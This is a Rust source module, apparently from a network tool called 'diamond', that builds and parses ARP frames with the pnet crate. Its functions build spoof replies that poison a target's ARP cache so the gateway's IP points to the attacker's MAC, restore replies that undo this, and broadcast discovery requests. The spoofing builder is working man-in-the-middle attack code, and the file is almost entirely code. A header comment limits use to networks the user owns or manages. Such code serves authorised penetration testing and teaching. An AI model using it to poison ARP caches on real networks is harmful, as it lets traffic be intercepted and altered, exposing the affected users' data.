//! ARP frame construction and parsing.
//!
//! Every frame diamond puts on the wire is one of three shapes:
//!
//! - a **spoof reply** telling a target that the gateway's IP lives at our MAC,
//! - a **restore reply** telling a target the gateway's real MAC again,
//! - a broadcast **request** used by host discovery.
//!
//! The two replies share the exact same layout and only differ in the
//! hardware address claimed for the gateway IP.
//!
//! Sending these frames requires root privileges and should only be done on
//! networks you own or manage.

use std::net::Ipv4Addr;

use pnet::packet::Packet;
use pnet::packet::arp::{
    ArpHardwareTypes, ArpOperation, ArpOperations, ArpPacket, MutableArpPacket,
};
use pnet::packet::ethernet::{EtherTypes, EthernetPacket, MutableEthernetPacket};
use pnet::util::MacAddr;

use crate::error::{NetworkError, Result};

/// Broadcast MAC address for ARP requests.
pub const BROADCAST_MAC: MacAddr = MacAddr(0xff, 0xff, 0xff, 0xff, 0xff, 0xff);

/// Size of an Ethernet header.
const ETHERNET_HEADER_SIZE: usize = 14;

/// Size of an ARP packet payload.
const ARP_PACKET_SIZE: usize = 28;

/// Size of an Ethernet frame with ARP payload.
pub const ARP_FRAME_SIZE: usize = ETHERNET_HEADER_SIZE + ARP_PACKET_SIZE;

/// Addressing of a single ARP frame.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ArpFrame {
    pub operation: ArpOperation,
    pub sender_ip: Ipv4Addr,
    pub sender_mac: MacAddr,
    pub target_ip: Ipv4Addr,
    pub target_mac: MacAddr,
}

/// Build the reply that poisons `target`: the gateway's IP is at `attacker_mac`.
pub fn build_spoof_reply(
    attacker_mac: MacAddr,
    gateway_ip: Ipv4Addr,
    target_ip: Ipv4Addr,
    target_mac: MacAddr,
) -> Result<Vec<u8>> {
    build_arp_reply(gateway_ip, attacker_mac, target_ip, target_mac)
}

/// Build the reply that repairs `target`: the gateway's IP is at `gateway_mac`.
pub fn build_restore_reply(
    gateway_mac: MacAddr,
    gateway_ip: Ipv4Addr,
    target_ip: Ipv4Addr,
    target_mac: MacAddr,
) -> Result<Vec<u8>> {
    build_arp_reply(gateway_ip, gateway_mac, target_ip, target_mac)
}

/// Build a broadcast ARP request asking who has `target_ip`.
pub fn build_arp_request(our_ip: Ipv4Addr, our_mac: MacAddr, target_ip: Ipv4Addr) -> Result<Vec<u8>> {
    write_frame(
        BROADCAST_MAC,
        our_mac,
        ArpOperations::Request,
        (our_ip, our_mac),
        (target_ip, MacAddr::zero()),
    )
}

/// Build an ARP reply; the Ethernet source is the claimed sender MAC.
fn build_arp_reply(
    sender_ip: Ipv4Addr,
    sender_mac: MacAddr,
    target_ip: Ipv4Addr,
    target_mac: MacAddr,
) -> Result<Vec<u8>> {
    write_frame(
        target_mac,
        sender_mac,
        ArpOperations::Reply,
        (sender_ip, sender_mac),
        (target_ip, target_mac),
    )
}

fn write_frame(
    destination: MacAddr,
    source: MacAddr,
    operation: ArpOperation,
    (sender_ip, sender_mac): (Ipv4Addr, MacAddr),
    (target_ip, target_mac): (Ipv4Addr, MacAddr),
) -> Result<Vec<u8>> {
    let mut buffer = vec![0u8; ARP_FRAME_SIZE];

    // Ethernet header
    {
        let mut ethernet = MutableEthernetPacket::new(&mut buffer).ok_or_else(|| {
            NetworkError::PacketConstruction("Ethernet header creation failed".into())
        })?;
        ethernet.set_destination(destination);
        ethernet.set_source(source);
        ethernet.set_ethertype(EtherTypes::Arp);
    }

    // ARP payload
    {
        let mut arp = MutableArpPacket::new(&mut buffer[ETHERNET_HEADER_SIZE..])
            .ok_or_else(|| NetworkError::PacketConstruction("ARP packet creation failed".into()))?;
        arp.set_hardware_type(ArpHardwareTypes::Ethernet);
        arp.set_protocol_type(EtherTypes::Ipv4);
        arp.set_hw_addr_len(6);
        arp.set_proto_addr_len(4);
        arp.set_operation(operation);
        arp.set_sender_hw_addr(sender_mac);
        arp.set_sender_proto_addr(sender_ip);
        arp.set_target_hw_addr(target_mac);
        arp.set_target_proto_addr(target_ip);
    }

    Ok(buffer)
}

/// Parse an ARP packet from an Ethernet frame.
pub fn parse_arp_packet(frame: &[u8]) -> Option<ArpFrame> {
    let ethernet = EthernetPacket::new(frame)?;

    if ethernet.get_ethertype() != EtherTypes::Arp {
        return None;
    }

    let arp = ArpPacket::new(ethernet.payload())?;

    Some(ArpFrame {
        operation: arp.get_operation(),
        sender_ip: arp.get_sender_proto_addr(),
        sender_mac: arp.get_sender_hw_addr(),
        target_ip: arp.get_target_proto_addr(),
        target_mac: arp.get_target_hw_addr(),
    })
}
